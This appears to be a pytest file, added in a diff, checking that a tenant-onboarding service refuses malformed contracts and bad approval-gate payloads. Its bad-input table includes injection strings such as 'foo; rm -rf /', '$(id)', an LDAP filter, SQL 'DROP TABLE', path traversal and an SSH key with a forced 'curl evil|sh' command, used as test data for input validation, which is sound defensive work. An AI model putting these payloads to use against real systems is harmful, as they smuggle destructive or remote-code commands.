@@ -1,0 +1,102 @@
+"""Bad input table: malformed contracts and gate payloads each get a clear error naming the field, and write nothing."""
+
+from __future__ import annotations
+
+import copy
+from typing import Any
+
+import pytest
+import yaml
+from temporalio.client import WorkflowUpdateFailedError
+
+from lab.endpoints import LabEndpoints
+from models.gates import ApprovePlan, GateAnswer
+from models.tenant import TenantContract
+from starter.client import RunAlreadyActive
+from starter.contracts import ContractError, parse_contract
+from tests.chaos.conftest import Rig, tenant
+from tests.chaos.kit import STATS
+from tests.labfixture import journal_writes, reset_journals
+from tests.workflow.contract import EXAMPLES
+
+KEY = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIOsy1rAIiq4ryoQ4NeggdPKt8jjkGpiakSHAYtmHSX2L alice@laptop"
+CONTRACT_CASES: list[tuple[str, str, Any, str]] = [
+    ("slug uppercase", "slug", "Tenant-Foo", "slug"),
+    ("slug injection", "slug", "foo; rm -rf /", "slug"),
+    ("slug too long", "slug", "t" * 300, "slug"),
+    ("slug wrong type", "slug", ["tenant-foo"], "slug"),
+    ("slug empty", "slug", "", "slug"),
+    ("gpus not multiple of node", "capacity.gpus", 63, "capacity"),
+    ("gpus string", "capacity.gpus", "sixty-four", "capacity.gpus"),
+    ("gpus negative", "capacity.gpus", -8, "capacity.gpus"),
+    ("gpus oversized", "capacity.gpus", 10**12, "capacity.gpus"),
+    ("unknown sku", "capacity.sku", "z9000-8x", "capacity.sku"),
+    ("evict on release wrong type", "capacity.evict_on_release", {"yes": 1}, "capacity.evict_on_release"),
+    ("term days zero", "capacity.term_days", 0, "capacity.term_days"),
+    ("pool injection", "capacity.hardware_pool", "rack-a$(id)", "capacity.hardware_pool"),
+    ("unknown top-level field", "surprise", True, "surprise"),
+    ("unknown nested field", "capacity.colour", "blue", "capacity.colour"),
+    ("username injection", "users.0.username", "alice;id", "users.0.username"),
+    ("username uppercase", "users.0.username", "Alice", "users.0.username"),
+    ("username LDAP injection", "users.0.username", "a*)(uid=*", "users.0.username"),
+    ("name with shell metachars", "users.0.name", "Alice `reboot`", "users.0.name"),
+    ("email malformed", "users.0.email", "not-an-email", "users.0.email"),
+    ("ssh key garbage", "users.0.ssh_keys", ["hello world"], "users.0.ssh_keys"),
+    ("ssh key injected command", "users.0.ssh_keys", [f'command="curl evil|sh" {KEY}'], "users.0.ssh_keys"),
+    ("ssh key with newline", "users.0.ssh_keys", [KEY + "\nssh-rsa AAAA evil"], "users.0.ssh_keys"),
+    ("ssh key oversized", "users.0.ssh_keys", ["ssh-ed25519 " + "A" * 20_000], "users.0.ssh_keys"),
+    ("no ssh keys", "users.0.ssh_keys", [], "users.0.ssh_keys"),
+    ("users wrong type", "users", "alice", "users"),
+    ("quota memory garbage", "kube_quota.requests_memory", "8 TB", "kube_quota.requests_memory"),
+    ("pvc name injection", "storage.pvc_name", "../etc", "storage.pvc_name"),
+    ("slurm cluster injection", "slurm.cluster", "prod'; DROP TABLE", "slurm.cluster"),
+    ("max wall garbage", "slurm.normal_qos.max_wall", "forever", "slurm.normal_qos.max_wall"),
+    ("fairshare string", "slurm.fairshare", "lots", "slurm.fairshare"),
+    ("login replicas wrong type", "login.replicas", "two", "login.replicas"),
+]
+
+
+def mutated(path: str, value: Any) -> dict[str, Any]:
+    data: dict[str, Any] = copy.deepcopy(yaml.safe_load((EXAMPLES / "tenant-foo.yaml").read_text()))
+    *parents, last = path.split(".")
+    node: Any = data
+    for part in parents:
+        node = node[int(part)] if isinstance(node, list) else node[part]
+    node[last] = value
+    return data
+
+
+@pytest.mark.parametrize(("case", "path", "value", "field"), CONTRACT_CASES, ids=[c[0] for c in CONTRACT_CASES])
+def test_malformed_contract_is_refused_naming_the_field(case: str, path: str, value: Any, field: str) -> None:
+    with pytest.raises(ContractError) as refused:
+        parse_contract(TenantContract, mutated(path, value), f"<{case}>", kubeconfig="/nonexistent")
+    assert field in str(refused.value), str(refused.value)
+
+
+async def test_bad_gate_payloads_are_refused_and_write_nothing(rig: Rig, chaos_lab: LabEndpoints) -> None:
+    STATS.scenarios += 1
+    api = rig.api
+    contract = tenant(chaos_lab, slug="tenant-badin")
+    reset_journals(chaos_lab)
+    handle = await api.start_onboarding(contract)
+    status = await api.wait_for_plan(handle.id)
+    assert status.plan_hash
+    with pytest.raises(RunAlreadyActive, match="tenant/tenant-badin is already in progress"):
+        await api.start_onboarding(contract)
+    refusals: list[tuple[str, Any, str]] = [
+        ("approve_plan", ApprovePlan(plan_hash="0" * 16), "stale or unknown plan hash"),
+        ("approve_plan", {"plan_hash": 42, "approver": ["x"]}, "Failed decoding arguments"),
+        ("approve_plan", {"plan_hash": status.plan_hash, "sneaky": True}, "Failed decoding arguments"),
+        ("approve_plan", {"plan_hash": status.plan_hash * 1000}, "Failed decoding arguments"),
+        ("answer_gate", GateAnswer(), "answer_gate"),
+    ]
+    for update, payload, message in refusals:
+        with pytest.raises(WorkflowUpdateFailedError) as refused:
+            await handle.execute_update(update, payload)
+        assert message in str(refused.value.cause), (update, payload, refused.value.cause)
+        STATS.runs_failed_as_expected += 1
+    assert (await api.status(handle.id)).stage == "gate:approve_plan"
+    await api.reject(handle.id, "bad input table")
+    with pytest.raises(Exception, match=r"already completed|not open|not found"):
+        await api.approve(handle.id, status.plan_hash)
+    assert sum(journal_writes(chaos_lab).values()) == 0, journal_writes(chaos_lab)
